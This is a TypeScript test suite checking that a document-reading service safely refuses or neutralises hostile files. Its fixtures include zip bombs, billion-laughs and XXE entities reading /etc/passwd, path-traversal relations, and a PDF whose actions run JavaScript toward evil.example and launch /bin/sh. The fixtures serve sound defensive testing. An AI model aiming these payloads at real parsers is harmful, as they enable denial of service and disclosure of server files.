import { expect } from 'chai'
import { noCallFiles } from '../../test/support/call-files.js'
import { docx, DOCX, EPUB, ODT, pdf, PPTX, spreadsheet, workbookParts, written } from '../../test/support/documents.js'
import { ReadingStage } from '../../test/support/reading.js'
import { writeZip, type ZipOptions } from '../../test/support/zip-writer.js'

const LAUGHS = `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l "lol">${Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at} "${`&l${at === 0 ? '' : at - 1};`.repeat(10)}">`).join('')}]>`
const EXTERNAL = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
const part = (parts: Readonly<Record<string, string | Uint8Array>>, name: string): string => Buffer.from(parts[name] ?? '').toString()
const zipped = (parts: Readonly<Record<string, string | Uint8Array>>, options: ZipOptions = {}): Uint8Array => writeZip(parts, options)
const leaf = { content: written(['Ten kettles', 20, 200]) }
/** A workbook whose sheet declares the maximum rows, and has one far down. */
const farSheet = (): Uint8Array => {
  const rows = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>'
  return writeZip(workbookParts(rows, '<dimension ref="A1:XFD1048576"/>'))
}
const mail = (body: string, type: string): string => `From: a@example.com\r\nMIME-Version: 1.0\r\nContent-Type: ${type}\r\n\r\n${body}`
const manyParts = (count: number): string =>
  mail(
    `${Array.from({ length: count }, (_, at) => `--b\r\nContent-Disposition: attachment; filename="${at}.txt"\r\n\r\nx\r\n`).join('')}--b--\r\n`,
    'multipart/mixed; boundary="b"',
  )
const nestedParts = (depth: number): string => {
  let body = 'Content-Type: text/plain\r\n\r\nhello\r\n'
  for (let at = 0; at < depth; at += 1)
    body = `Content-Type: multipart/mixed; boundary="b${at}"\r\n\r\n--b${at}\r\n${body}\r\n--b${at}--\r\n`
  return `From: a@example.com\r\nMIME-Version: 1.0\r\n${body}`
}

describe('reading: hostile files', function () {
  this.timeout(120_000)
  let stage: ReadingStage
  before(async function () {
    stage = await ReadingStage.open(this)
  })
  after(() => stage?.close())

  const REFUSED: Readonly<Record<string, [() => Uint8Array | string, string, object?]>> = {
    'a bomb in an archive': [() => docx({ 'word/media/a.bin': Buffer.alloc(20 << 20) }), '100 times its size'],
    'many middling bombs in an archive': [
      () => zipped(Object.fromEntries(Array.from({ length: 120 }, (_, at) => [`${at}.bin`, Buffer.alloc(1 << 20)]))),
      'unpacks to more than',
    ],
    'more files than an archive may hold': [() => zipped({ ...DOCX }, { count: 65_000 }), 'more than 2000 files'],
    'entities that multiply in a Word document': [
      () =>
        docx({
          'word/document.xml': part(DOCX, 'word/document.xml')
            .replace(/^<\?xml[^>]*>/, LAUGHS)
            .replace('Kettles', '&l8;'),
        }),
      'entities of its own',
    ],
    'the same in UTF-16': [
      () =>
        docx({ 'word/document.xml': Buffer.from(`\ufeff${part(DOCX, 'word/document.xml').replace(/^<\?xml[^>]*>/, LAUGHS)}`, 'utf16le') }),
      'entities of its own',
    ],
    'an entity from outside': [
      () =>
        docx({
          'word/document.xml': part(DOCX, 'word/document.xml')
            .replace(/^<\?xml[^>]*>/, EXTERNAL)
            .replace('Kettles', '&x;'),
        }),
      'entities of its own',
    ],
    'entities that multiply in OpenDocument': [
      () => zipped({ ...ODT, 'content.xml': part(ODT, 'content.xml').replace(/^<\?xml[^>]*>/, LAUGHS) }),
      'entities of its own',
    ],
    'entities in the list of a book': [
      () => zipped({ ...EPUB, 'OPS/book.opf': part(EPUB, 'OPS/book.opf').replace(/^<\?xml[^>]*>/, EXTERNAL) }),
      'entities of its own',
    ],
    'a book whose list is outside': [
      () => zipped({ ...EPUB, 'META-INF/container.xml': '<container><rootfile full-path="../../etc/passwd"/></container>' }),
      'names no list',
    ],
    'parts of a message nested a hundred deep': [() => nestedParts(100), 'broken'],
    'an encrypted OpenDocument': [
      () => zipped({ ...ODT, 'META-INF/manifest.xml': '<manifest><file-entry><encryption-data/></file-entry></manifest>' }),
      'encrypted',
    ],
    'HTML nested as deep as it goes': [() => `<!doctype html>${'<div>'.repeat(100_000)}x`, 'nested too deep'],
    'a Word document that is cut short': [() => docx().slice(0, 700), 'broken'],
    'a Word document without its text': [() => docx({ 'word/document.xml': '' }), 'broken'],
    'an archive of an archive': [() => zipped({ 'inner.docx': docx() }), 'an archive, not a document'],
    'a PDF of which the end is missing and the beginning too': [() => '%PDF-1.7\n%%EOF', 'broken'],
  }
  for (const [name, [file, words, input]] of Object.entries(REFUSED))
    it(`T-49 ${name} is invalid, free, and says nothing of the machine`, async () => {
      const reply = await stage.ask('document.read', file(), { ...input })
      expect(reply.text).to.contain('validation-failed').and.contain(words)
      expect(reply.text).not.to.contain('root:').and.not.contain('/tmp').and.not.contain('node_modules')
      expect(reply.headers['x-credits-used']).to.equal('0')
    })

  it('T-49 of 10,000 pages of a PDF the first are read', async () => {
    const read = await stage.read(pdf(Array.from({ length: 10_000 }, () => leaf)))
    expect(read).to.deep.include({ pages: 10_000, truncated: true })
    expect(read.text.split('Ten kettles').length).to.be.within(2, 201)
  })

  it('T-49 scripts and actions of a PDF are passed over', async () => {
    const catalog = '/OpenAction<</S/JavaScript/JS(app.launchURL\\("https://evil.example"\\))>>/AA<</WC<</S/Launch/F(/bin/sh)>>>>'
    const read = await stage.read(pdf([leaf], catalog), { want: ['attachments', 'positions'] })
    expect(read.text).to.equal('Ten kettles')
    expect(JSON.stringify(read)).not.to.contain('evil').and.not.contain('/bin/sh')
  })

  it('T-49 a template and pictures that are elsewhere are not fetched', async () => {
    const relations = part(DOCX, 'word/_rels/document.xml.rels').replace(
      '</Relationships>',
      '<Relationship Id="t1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/><Relationship Id="i1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file:///etc/passwd" TargetMode="External"/></Relationships>',
    )
    const read = await stage.read(docx({ 'word/_rels/document.xml.rels': relations }), { want: ['html'] })
    expect(read.links).to.deep.equal(['https://d.example/p'])
    expect(JSON.stringify(read)).not.to.contain('evil').and.not.contain('root:')
  })

  it('T-49 a sheet that says it has a million rows is read as far as it goes', async () => {
    const read = await stage.read(farSheet(), { want: ['tables'] })
    expect(read.tables).to.deep.equal([{ name: 'S', rows: [['1']] }])
  })

  it('T-49 rows of 100,000 columns are cut', async () => {
    const row = Array.from({ length: 100_000 }, (_, at) => at).join(',')
    const read = await stage.read(`${row}\n${row}\n`, { name: 'x.csv', want: ['tables'] })
    expect(read).to.deep.include({ truncated: true })
    expect(read.tables[0]?.rows.map((cells) => cells.length)).to.deep.equal([256, 256])
  })

  it('T-49 of the 10,000 parts of a message a hundred are listed', async () => {
    const read = await stage.read(manyParts(10_000), { want: ['attachments'] })
    expect(read.attachments).to.have.length(100)
    expect(read.notes.join()).to.contain('10000')
  })

  it('T-49 five megabytes of HTML are read, or refused once they take too much', async () => {
    const reply = await stage.ask('document.read', `<!doctype html><body>${'<p>ten <b>red</b> kettles</p>'.repeat(175_000)}`)
    if (reply.status !== 200)
      expect(reply.text)
        .to.contain('validation-failed')
        .and.match(/too (?:long|much memory)/)
    else expect(reply.json<{ data: { text: string } }>().data.text.length).to.be.above(3_000_000)
  })

  it('T-49 a presentation that names a slide outside, and itself, is read without', async () => {
    const relations = part(PPTX, 'ppt/_rels/presentation.xml.rels').replace('slides/slide1.xml', '../../../etc/passwd')
    const read = await stage.read(zipped({ ...PPTX, 'ppt/_rels/presentation.xml.rels': relations }))
    expect(read.text).to.contain('Kettles').and.not.contain('root:')
  })

  it('T-49 any piece of a file is read or refused, and nothing else', async () => {
    const files = [docx(), spreadsheet('xls'), pdf([leaf]), zipped(PPTX)]
    for (const file of files)
      for (const share of [0.3, 0.6, 0.9]) {
        const reply = await stage.ask('document.read', file.slice(0, Math.floor(file.length * share)))
        expect(reply.status === 200 || reply.text.includes('validation-failed'), reply.text).to.equal(true)
      }
  })

  it('T-60 leave no file behind', async () => {
    await noCallFiles(stage.temporary)
  })
})
